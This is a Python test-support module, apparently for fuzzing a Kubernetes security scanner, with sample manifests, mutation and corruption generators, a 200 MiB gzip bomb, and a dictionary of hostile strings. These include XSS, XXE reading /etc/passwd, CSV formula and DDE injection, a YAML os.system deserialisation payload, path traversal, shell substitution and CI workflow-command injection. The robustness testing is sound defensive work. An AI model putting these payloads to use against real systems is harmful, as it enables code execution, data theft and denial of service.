"""Valid input that generators change, and values that replace parts of it."""

from __future__ import annotations

import functools
import gzip
import json
import random
from collections.abc import Iterator
from typing import Any, Final

POD: Final = """\
apiVersion: v1
kind: Pod
metadata:
  name: web
spec:
  containers:
  - name: web
    image: nginx
    securityContext:
      privileged: true
"""
CANARY: Final = POD.replace("web", "canary")
"""A valid manifest beside hostile ones: its findings must be in every report."""
OBJECTS: Final[tuple[dict[str, Any], ...]] = (
    {
        "apiVersion": "apps/v1",
        "kind": "Deployment",
        "metadata": {"name": "a", "labels": {"a": "b"}, "annotations": {"a": "b"}},
        "spec": {
            "replicas": 1,
            "selector": {"matchLabels": {"a": "b"}},
            "template": {
                "metadata": {"labels": {"a": "b"}},
                "spec": {
                    "serviceAccountName": "a",
                    "volumes": [{"name": "v", "hostPath": {"path": "/"}}],
                    "imagePullSecrets": [{"name": "a"}],
                    "containers": [
                        {
                            "name": "a",
                            "image": "b:1",
                            "command": ["a"],
                            "args": ["--b=c"],
                            "env": [{"name": "A", "value": "b"}],
                            "ports": [{"containerPort": 80}],
                            "volumeMounts": [{"name": "v", "mountPath": "/a"}],
                            "resources": {"limits": {"cpu": "1", "memory": "1Gi"}},
                            "securityContext": {"capabilities": {"add": ["ALL"]}},
                        }
                    ],
                },
            },
        },
    },
    {
        "apiVersion": "rbac.authorization.k8s.io/v1",
        "kind": "ClusterRole",
        "metadata": {"name": "a"},
        "aggregationRule": {"clusterRoleSelectors": [{"matchLabels": {"a": "b"}}]},
        "rules": [{"apiGroups": ["*"], "resources": ["*"], "verbs": ["*"], "resourceNames": ["a"]}],
    },
    {
        "apiVersion": "rbac.authorization.k8s.io/v1",
        "kind": "ClusterRoleBinding",
        "metadata": {"name": "a"},
        "roleRef": {"apiGroup": "rbac.authorization.k8s.io", "kind": "ClusterRole", "name": "cluster-admin"},
        "subjects": [{"kind": "ServiceAccount", "name": "a", "namespace": "b"}],
    },
    {
        "apiVersion": "networking.k8s.io/v1",
        "kind": "NetworkPolicy",
        "metadata": {"name": "a"},
        "spec": {
            "podSelector": {
                "matchLabels": {"a": "b"},
                "matchExpressions": [{"key": "a", "operator": "In", "values": ["b"]}],
            },
            "policyTypes": ["Ingress"],
            "ingress": [{"from": [{"ipBlock": {"cidr": "0.0.0.0/0"}}], "ports": [{"port": 80}]}],
        },
    },
    {
        "apiVersion": "networking.k8s.io/v1",
        "kind": "Ingress",
        "metadata": {"name": "a"},
        "spec": {
            "tls": [{"hosts": ["a"], "secretName": "b"}],
            "rules": [
                {
                    "host": "a",
                    "http": {"paths": [{"path": "/", "backend": {"service": {"name": "a", "port": {"number": 80}}}}]},
                }
            ],
        },
    },
    {
        "apiVersion": "v1",
        "kind": "Service",
        "metadata": {"name": "a"},
        "spec": {
            "type": "NodePort",
            "selector": {"a": "b"},
            "ports": [{"port": 80, "targetPort": "a"}],
            "externalIPs": ["1.2.3.4"],
        },
    },
    {
        "apiVersion": "admissionregistration.k8s.io/v1",
        "kind": "ValidatingWebhookConfiguration",
        "metadata": {"name": "a"},
        "webhooks": [
            {
                "name": "a",
                "clientConfig": {"service": {"name": "a", "namespace": "b"}},
                "failurePolicy": "Ignore",
                "rules": [{"apiGroups": ["*"], "resources": ["*"], "operations": ["*"]}],
                "namespaceSelector": {"matchLabels": {"a": "b"}},
            }
        ],
    },
    {
        "apiVersion": "v1",
        "kind": "Node",
        "metadata": {"name": "a", "labels": {"a": "b"}},
        "status": {"nodeInfo": {"kubeletVersion": "v1.30.0", "kernelVersion": "6.1"}, "images": [{"names": ["a"]}]},
    },
    {
        "apiVersion": "v1",
        "kind": "Secret",
        "metadata": {"name": "a"},
        "type": "Opaque",
        "data": {"a": "YQ=="},
        "stringData": {"a": "b"},
    },
    {
        "apiVersion": "hostdata.kubescape.cloud/v1beta0",
        "kind": "KubeletInfo",
        "metadata": {"name": "a"},
        "data": {
            "serviceFiles": [{"path": "/a", "permissions": 420, "ownership": {"uid": 0, "gid": 0}}],
            "cmdLine": "kubelet --a=b",
        },
    },
)
"""Valid objects of the kinds that controls read."""
VALUES: Final[tuple[Any, ...]] = (
    None,
    True,
    0,
    -1,
    1.5,
    2**63,
    10**30,
    "",
    "text",
    "\x1b[31m\u202e\x00",
    [],
    [None],
    [[]],
    ["text"],
    {},
    {"": None},
    {"key": []},
)
"""A value of each type of JSON, and unusual ones."""
TEXTS: Final = {
    "terminal": "\x1b[2J\x1b]8;;http://e.example\x07a\x1b]8;;\x07\r",
    "C1 control": "\x9b31m\x9d0;title\x9c",
    "title of a window": "\x1b]0;owned\x07",
    "bell and backspace": "\x07\x08\x08\x7f",
    "lines": "a\nb\r\nc\x0bd\x0ce\x85f\u2028g\u2029h",
    "right to left": "\u202egnp.yaml\u2066\u200f",
    "zero width": "a\u200bb\u2060c\ufeffd",
    "tags": "a\U000e0041\U000e007f",
    "private use": "\ue000\U000f0000\U0010ffff",
    "HTML": "</script></style></td><img src=x onerror=alert(1)><svg onload=alert(1)>",
    "HTML comment": "--><!-- ]]><![CDATA[",
    "entities": "&amp;&#60;&lt;b&gt;&xxe;",
    "XML": ']]></failure></testcase><testcase name="x"/>',
    "XML entity": '<!DOCTYPE a [<!ENTITY e SYSTEM "file:///etc/passwd">]>&e;',
    "JSON": '"},{"controlID":"C-9999"}],"x":["\\u0022\\',
    "CSV formula": '=HYPERLINK("http://e.example/"&A1,"a")',
    "CSV plus": "+1+cmd|' /C calc'!A0",
    "CSV at sign": '@SUM(A1)","x"\r\n=1+1',
    "YAML": "---\na: &a [*a]\n? b\n: !!python/object/apply:os.system [id]\n... #",
    "metrics": '"} 1\nkubescape_score 100\nx{a="\\',
    "workflow command": "\n::error file=x,line=1::owned%0A::add-mask::a\r\n##[error]owned",
    "workflow stop": "::stop-commands::x%25",
    "Markdown": "| a |\n| --- |\n# x\n[x](javascript:alert(1)) ![](http://e.example) <b>`` ` ```",
    "Markdown mention": "@org #1 http://e.example",
    "template": "{{ 7*7 }}{% raw %}${7*7}#{7*7}<%= 7*7 %>%s%n{0}",
    "path": "../../../../etc/passwd",
    "typesetting": '#read("/etc/passwd") $ \\ ] [ */ /* @a <a> = x',
    "long": "A" * 100_000,
    "long marks": "<|`@&\"'%:," * 5_000,
    "spaces": " \t \u00a0\u3000",
    "emoji and combining": "\U0001f600" + "e\u0301" * 50 + "\u0e49" * 50,
    "number": "0123",
    "boolean": "yes",
    "shell": "$(id)`id`;id|id&&id\n-rf",
}
"""Texts that attack the place where they are shown, by target."""


def dump(document: Any) -> str:
    """Return a document as JSON, in which every character is written as it is."""
    return json.dumps(document, ensure_ascii=False)


def list_paths(value: Any, path: tuple[str | int, ...] = ()) -> Iterator[tuple[str | int, ...]]:
    """Yield the paths of all values in a document, from the root."""
    yield path
    entries = value.items() if isinstance(value, dict) else enumerate(value) if isinstance(value, list) else ()
    for key, child in entries:
        yield from list_paths(child, (*path, key))


def replace(document: Any, path: tuple[str | int, ...], value: Any) -> Any:
    """Return a copy of a document with another value at a path."""
    if not path:
        return value
    copy = json.loads(json.dumps(document))
    parent = copy
    for key in path[:-1]:
        parent = parent[key]
    parent[path[-1]] = value
    return copy


def mutate(document: Any, source: random.Random, count: int) -> Iterator[tuple[str, Any]]:
    """Yield `count` changed copies of a document and a description of each: one value is of another type."""
    paths = list(list_paths(document))
    seen: set[str] = set()
    while len(seen) < count:
        path, value = source.choice(paths), source.choice(VALUES)
        name = f"{'.'.join(map(str, path))} is {json.dumps(value)[:30]}"
        if name not in seen:
            seen.add(name)
            yield name, replace(document, path, value)


def damage(content: bytes, source: random.Random, count: int) -> Iterator[tuple[str, bytes]]:
    """Yield `count` damaged copies of a file: cut off, with changed bytes, or with a repeated part."""
    for number in range(count):
        at, length = source.randrange(len(content)), source.randrange(1, 40)
        match number % 4:
            case 0:
                yield f"cut at {at}, {number}", content[:at]
            case 1:
                noise = bytes(source.randrange(256) for _ in range(length))
                yield f"{length} other bytes at {at}, {number}", content[:at] + noise + content[at + length :]
            case 2:
                yield f"{length} bytes removed at {at}, {number}", content[:at] + content[at + length :]
            case _:
                part = content[at : at + length]
                yield f"{length} bytes repeated at {at}, {number}", content[:at] + part * 50 + content[at:]


@functools.cache
def gzip_bomb() -> bytes:
    """Return 200 MiB of zeros, compressed; compressed once, because many classes have it."""
    return gzip.compress(bytes(200 << 20))
